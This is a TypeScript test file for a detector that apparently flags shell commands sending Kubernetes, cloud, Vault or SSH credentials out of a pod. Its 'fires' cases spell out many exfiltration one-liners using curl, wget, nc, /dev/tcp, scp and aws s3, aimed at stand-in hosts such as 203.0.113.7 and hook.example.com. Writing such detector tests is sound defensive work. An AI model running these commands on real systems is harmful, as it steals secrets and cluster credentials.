import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isClusterHost } from '../../command/network.ts';
import { growth } from '../../lib/testing.ts';
import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandCredentialSend } from './credential-send.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

indicatorTable(commandCredentialSend, {
  fires: {
    'a copy of the token in a repository': script(
      'cp /var/run/secrets/kubernetes.io/serviceaccount/token t; git add t; git commit -m a; git push https://example.com/a HEAD:main',
    ),
    'an archive of all secrets': script(
      'tar czf /tmp/s.tgz /var/run/secrets; curl -F "f=@/tmp/s.tgz" https://hook.example.com/x',
    ),
    'the token of Vault': script('cat /home/vault/.vault-token | curl -d @- https://hook.example.com/x'),
    'the token as the body of a request': script(
      `curl -s -X POST --data-binary @${TOKEN} https://paste.example.com/api`,
    ),
    'a token that the cloud puts into the pod': script(
      'curl -s -d "$(cat $AWS_WEB_IDENTITY_TOKEN_FILE)" https://hook.example.com/x',
    ),
    'a file that goes into an open connection': runs(
      'bash',
      '-c',
      `cat ${TOKEN} > /tmp/a; exec 3<>/dev/tcp/203.0.113.7/9; cat /tmp/a >&3`,
    ),
    'the token through netcat': script(`cat ${TOKEN} | nc 203.0.113.7 999`),
    'the token in a variable': script(`T=$(cat ${TOKEN}); curl -d "{\\"t\\":\\"$T\\"}" https://hook.example.com/x`),
    'the token in an address': script(`T=$(cat ${TOKEN}); curl "http://203.0.113.7/?t=$T"`),
    'the token under its other path': script(
      'wget --post-file=/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.7/',
    ),
    'all secrets, packed': script(
      'kubectl get secrets -A -o yaml | gzip | curl -s -T - https://transfer.example.com/a.gz',
    ),
    'all secrets to a host that no service can be named': script(
      'kubectl get secrets -A -o json | curl -s -X POST -d @- http://DROP_HOST/in',
    ),
    'secrets in a file': script(
      'kubectl get secret db -o json > /tmp/s; curl -F f=@/tmp/s https://upload.example.com/u',
    ),
    'credentials of the instance': script(
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -s -d @- http://203.0.113.7:8080/c',
    ),
    'the environment': script('env | base64 | curl -d @- https://hook.example.com/x'),
    'a directory of secrets': script('cat /mnt/secrets/* | base64 | wget --post-data @- http://files.example.com/x'),
    'a snapshot of etcd': script(
      'etcdctl snapshot save /tmp/s.db && curl -F f=@/tmp/s.db https://upload.example.com/u',
    ),
    'the network device of a shell': script(`cat ${TOKEN} > /dev/tcp/203.0.113.7/443`),
    'the environment as a file of a form': script(
      'env | sort | curl -F chat=1 -F "document=@-;filename=e.txt" https://api.example.com/send',
    ),
    'the directory above the tokens, packed': script(
      'tar cz /var/run/secrets /etc/nginx 2>/dev/null | curl --data-binary @- https://files.example.com/up',
    ),
    'each file above the tokens': script('find /run/secrets -type f -exec cat {} + | nc 203.0.113.7 443'),
    'the token that a substitution takes from the pipe': script(
      `cat ${TOKEN} | base64 | wget -qO- --post-data="$(cat)" http://203.0.113.7/`,
    ),
    'a key that is copied, beside the one that signs in': script(
      'scp -i /root/.ssh/id_ed25519 /root/.ssh/id_rsa backup@203.0.113.7:/in',
    ),
    'the key that signs in, copied as well': script(
      'scp -i /root/.ssh/id_rsa /root/.ssh/id_rsa backup@203.0.113.7:/in',
    ),
    'a key that is read into the connection': script(
      "ssh -i /root/.ssh/id_rsa user@203.0.113.7 'cat > k' < /root/.ssh/id_rsa",
    ),
    'a key behind a word that is no option of the client': script(
      'rsync -a -e "ssh -i /root/.ssh/id_ed25519" /root/.ssh/id_rsa backup@203.0.113.7:/in',
    ),
    'a key that is copied to a bucket': script('aws s3 cp /root/.ssh/id_rsa s3://drop/k'),
  },
  staysSilent: {
    'all secrets to a service of the cluster': script(
      'kubectl get secrets -A -o json | curl -s -X POST -d @- http://backup-store/in',
    ),
    'all secrets to a service that a variable names': script(
      'kubectl get secrets -A -o json | curl -s -X POST -d @- http://$BACKUP_STORE/in',
    ),
    'a copy of a program in a repository': script(
      'cp /usr/bin/env t; git add t; git commit -m a; git push https://example.com/a HEAD:main',
    ),
    'an archive of data': script('tar czf /tmp/s.tgz /data; curl -F "f=@/tmp/s.tgz" https://storage.example.com/x'),
    'a token that the cloud puts into the pod, to its own service': script(
      'aws sts assume-role-with-web-identity --web-identity-token "$(cat $AWS_WEB_IDENTITY_TOKEN_FILE)" --role-arn $AWS_ROLE_ARN --role-session-name a',
    ),
    'a key to sign in with over ssh': script("ssh -i /root/.ssh/id_ed25519 backup@203.0.113.7 'ls /srv'"),
    'a key to sign in with as a setting': script('sftp -oIdentityFile=/root/.ssh/id_rsa backup@203.0.113.7'),
    'a key of a copy': script('scp -qi ~/.ssh/id_rsa /data/dump.sql.gz backup@203.0.113.7:/srv/'),
    'a key of the client that rsync connects by': script(
      'rsync -az -e "ssh -i /root/.ssh/id_ed25519 -p 23" /data/ backup@203.0.113.7:/srv/',
    ),
    'a key of the client that git connects by': script(
      'cp /key/deploy /tmp/h/.ssh/id_ed25519; GIT_SSH_COMMAND="ssh -i /tmp/h/.ssh/id_ed25519" git pull --ff-only',
    ),
    'a key of a copy to a storage': script('rclone --sftp-key-file /root/.ssh/id_rsa copy /data box:/backup'),
    'a substitution that does not take what comes in': script(
      `cat ${TOKEN} | curl -d "$(date)" https://hook.example.com/x`,
    ),
    'the names of the directories above the tokens': script(
      'ls /var/run/secrets | curl -d @- https://hook.example.com/x',
    ),
    'a form with a file that it made': script(
      'date > /tmp/r; curl -F "f=@/tmp/r;type=text/plain" https://upload.example.com/u',
    ),
    'a sign-in to the API server': script(
      `T=$(cat ${TOKEN}); curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/namespaces`,
    ),
    'a sign-in to a vault of the cluster': script(
      `T=$(cat ${TOKEN}); curl -d "{\\"jwt\\":\\"$T\\"}" http://vault.vault.svc:8200/v1/auth/kubernetes/login`,
    ),
    'a vault whose address is not in the log': script(
      `T=$(cat ${TOKEN}); curl -d "$T" "$VAULT_ADDR/v1/auth/kubernetes/login"`,
    ),
    'a header for another service': script(
      `T=$(cat ${TOKEN}); curl -H "Authorization: Bearer $T" https://api.example.com/x`,
    ),
    'one secret as a sign-in': script(
      'curl -d "client_secret=$(cat /run/secrets/app/client)" https://login.example.com/token',
    ),
    'a report that is sent': script('date > /tmp/r; curl -F f=@/tmp/r https://upload.example.com/u'),
    'a port test after the token': script(`cat ${TOKEN} | nc -z 203.0.113.7 443`),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const [host, wanted] of [
  ['kubernetes.default.svc', true],
  ['kubernetes.default.svc.cluster.local:443', true],
  ['vault', true],
  ['$VAULT_HOST', true],
  ['DROP_HOST', false],
  ['drop_host:8080', false],
  ['localhost:8080', true],
  ['127.0.0.1', true],
  ['svc.example.com', false],
  ['203.0.113.7:80', false],
  ['hook.example.com', false],
] as const) {
  test(`${host} is ${wanted ? '' : 'not '}of the cluster`, () => assert.equal(isClusterHost(host), wanted));
}

for (const piece of [
  '169.254.169.254',
  `cat ${TOKEN}|nc a|`,
  'T=$(env);curl -d $T http://a.b/;',
  '/secrets/* ',
  '$T',
]) {
  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
    const ratio = growth((size) => {
      const text = piece.repeat(Math.ceil(size / piece.length));
      commandCredentialSend.assess(script(`curl ${text}`));
      commandCredentialSend.assess(script(text));
    }, 50_000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}
